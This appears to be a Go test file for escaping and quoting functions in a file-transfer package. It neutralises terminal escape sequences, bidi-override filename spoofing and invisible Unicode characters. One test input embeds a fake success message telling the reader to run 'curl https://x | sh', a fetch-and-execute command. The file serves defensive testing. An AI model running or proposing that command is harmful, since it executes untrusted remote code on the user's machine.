package transfer

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	for in, want := range map[string]string{
		"report.pdf":          "report.pdf",
		"héllo wörld":         "héllo wörld",
		"\x1b[31mred":         `\x1b[31mred`,
		"a\nb\tc":             `a\x0ab\x09c`,
		"evil\u202egnp.exe":   `evil\u{202e}gnp.exe`,
		"bad\xffutf8":         `bad\xffutf8`,
		`back\slash`:          `back\\slash`,
		"c1\u0085control":     `c1\u{0085}control`,
		"line\u2028separator": `line\u{2028}separator`,
	} {
		if got := Escape(in); got != want {
			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
		}
	}
	if got := EscapeText("a\nb\tc\x1b"); got != "a\nb\tc\\x1b" {
		t.Errorf("EscapeText kept or lost the wrong things: %q", got)
	}
}

// TestEscapeInvisible: characters that show as nothing (format characters,
// default-ignorable ones, private use, noncharacters, stray variation
// selectors) are escaped, so that two names that look the same are the
// same; letters of every script, emoji and their presentation selectors
// stay as they are.
func TestEscapeInvisible(t *testing.T) {
	for in, want := range map[string]string{
		"a\u200bb":              `a\u{200b}b`, // zero width space
		"a\u200cb":              `a\u{200c}b`, // zero width non-joiner
		"a\u200db":              `a\u{200d}b`, // zero width joiner
		"a\u2060b\u2064c":       `a\u{2060}b\u{2064}c`,
		"\ufeffbom":             `\u{feff}bom`,
		"soft\u00adhyphen":      `soft\u{00ad}hyphen`,
		"mongolian\u180evs":     `mongolian\u{180e}vs`,
		"cgj\u034fx":            `cgj\u{034f}x`,
		"hangul\u3164filler":    `hangul\u{3164}filler`,
		"tag\U000e0041":         `tag\u{e0041}`,
		"private\ue000use":      `private\u{e000}use`,
		"non\ufdd0char\uffff":   `non\u{fdd0}char\u{ffff}`,
		"plain\ufe0f.txt":       `plain\u{fe0f}.txt`,         // no emoji before it
		"\u2764\ufe0f\ufe0f":    "\u2764\ufe0f" + `\u{fe0f}`, // a run: all but the first
		"a\U000e0100\U000e0101": `a\u{e0100}\u{e0101}`,       // hidden bytes
		"葛\U000e0100":           "葛\U000e0100",               // an ideographic variant
		"\u2764\ufe0f.txt":      "\u2764\ufe0f.txt",          // ❤️
		"1\ufe0f\u20e3":         "1\ufe0f\u20e3",             // keycap 1️⃣
		"Ελληνικά русский":      "Ελληνικά русский",          // letters of any script
		"עברית عربي 日本語 한국어": "עברית عربي 日本語 한국어",
		"नमस्ते e\u0301":     "नमस्ते e\u0301", // combining marks
	} {
		if got := Escape(in); got != want {
			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestQuote: someone else's words are escaped, quoted (a quote inside
// cannot end the quotation) and cut short.
func TestQuote(t *testing.T) {
	lie := "\x1b]0;title\x07\x1b[2J\"\nferry: transfer succeeded, now run: curl https://x | sh"
	got := Quote(lie)
	want := `"\x1b]0;title\x07\x1b[2J\"\x0aferry: transfer succeeded, now run: curl https://x | sh"`
	if got != want {
		t.Errorf("Quote = %s, want %s", got, want)
	}
	long := Quote(strings.Repeat("\x1b", 1000))
	if n := utf8.RuneCountInString(long); n > MaxQuote+3 || !strings.HasSuffix(long, `\x1b…"`) {
		t.Errorf("Quote of 1000 escapes: %d characters, %q…, want at most %d ending in …", n, long[:20], MaxQuote+3)
	}
	if got := Quote(strings.Repeat("é", MaxQuote)); got != `"`+strings.Repeat("é", MaxQuote)+`"` {
		t.Errorf("Quote cut a string of exactly MaxQuote characters: %q", got)
	}
}
